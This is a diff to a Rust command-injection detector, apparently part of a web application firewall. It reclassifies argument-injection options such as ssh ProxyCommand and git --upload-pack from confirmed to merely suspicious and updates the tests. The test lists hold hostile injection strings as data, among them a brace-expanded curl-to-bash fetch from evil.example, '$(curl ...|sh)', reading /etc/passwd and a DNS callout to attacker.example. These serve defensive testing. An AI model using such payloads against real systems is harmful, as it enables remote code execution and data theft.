@@ -137,7 +137,8 @@ fn command_at(s: &[u8], i: usize, weak_ok: bool, may_end: bool) -> (bool, bool) 
 }
 
 /// A value that is an option making a program run a command, for an app that passes it as an
-/// argument (`ssh -oProxyCommand=…`, `git clone --upload-pack=…`): argument injection.
+/// argument (`ssh -oProxyCommand=…`, `git clone --upload-pack=…`): argument injection, or a
+/// deploy tool's setting.
 fn argument_injection(s: &[u8]) -> bool {
     let t = s.trim_ascii_start();
     [&b"-oproxycommand="[..], b"-o proxycommand=", b"--upload-pack=", b"--receive-pack=", b"-u upload-pack=", b"--config=core.sshcommand="].iter().any(|o| t.starts_with(o))
@@ -154,7 +155,7 @@ fn brace_command(s: &[u8], i: usize) -> bool {
     let word = &w[..n];
     // Its first argument as a shell's: none, an option, a path, a variable (a script's object
     // shorthand `{id, name}` or `{type,payload}` has a name there).
-    let argument = matches!(s.get(end + 1), Some(b'}' | b',' | b'-' | b'/' | b'.' | b'$' | b'~'));
+    let argument = matches!(s.get(end + 1), Some(b'}' | b',' | b'-' | b'/' | b'$' | b'~'));
     s.get(end) == Some(&b',') && argument && (strong(word) || weak(word)) && s[end..(end + 256).min(s.len())].contains(&b'}')
 }
 
@@ -233,13 +234,12 @@ fn inside_token(s: &[u8], start: usize, i: usize) -> bool {
 /// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
 pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
     use classes::{AMP, BACKTICK, DOLLAR, EQ, NEWLINE, PERCENT, PIPE, SEMI};
-    if mask & EQ != 0 && argument_injection(s) {
-        return (true, true);
-    }
+    // DevOps tools take such options on purpose (`-o ProxyCommand=ssh -W %h:%p bastion`): a
+    // near miss, which keeps a WAF's denial.
+    let mut suspicious = mask & EQ != 0 && argument_injection(s);
     if mask & (SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR | PERCENT) == 0 {
-        return (false, false);
+        return (false, suspicious);
     }
-    let mut suspicious = false;
     // Where the second word of the value starts: a trigger up to there follows at most one token.
     let start = s.iter().position(|&b| !matches!(b, b' ' | b'\t' | b'\n')).unwrap_or(s.len());
     let first_blank = s[start..].iter().position(|&b| matches!(b, b' ' | b'\t' | b'\n')).map_or(s.len(), |k| start + k);
@@ -329,8 +329,7 @@ mod tests {
             "127.0.0.1;{curl,-s,evil.example/s}|{bash,}",
             "|{id,}",
             ";tac /etc/passwd",
-            "-oProxyCommand=touch /tmp/pwned",
-            "--upload-pack=touch /tmp/pwned",
+
             "|nslookup x.attacker.example",
             "$(curl http://x.example/s.sh|sh)",
             "; ls",
@@ -384,6 +383,7 @@ mod tests {
             "a; {red,green} or blue",
             "return u && {id, name: u.name}",
             "const action = payload && {type,payload}",
+            "const opts = props.opts || {id,...defaults}",
             "see {tail, head}; pick one",
             "## Steps\n1. run `npm i`\n2. `cat package.json | grep version`\n```sh\nrm -rf node_modules && npm ci\n```\n> works on my machine :)",
             "I tried `curl -s https://api.example.com/v1/me | jq .` and then ; ls -la ~/.config and nothing",
@@ -406,6 +406,13 @@ mod tests {
             "2^10 & x^2 | y^3; id^2",
         ] {
             assert!(!cmd(t).0, "{t}");
+        }
+    }
+
+    #[test]
+    fn options_that_run_a_command_are_suspicious() {
+        for t in ["-oProxyCommand=touch /tmp/pwned", "-o ProxyCommand=ssh -W %h:%p bastion.acme.io", "--upload-pack=touch /tmp/pwned"] {
+            assert_eq!(cmd(t), (false, true), "{t}");
         }
     }
 
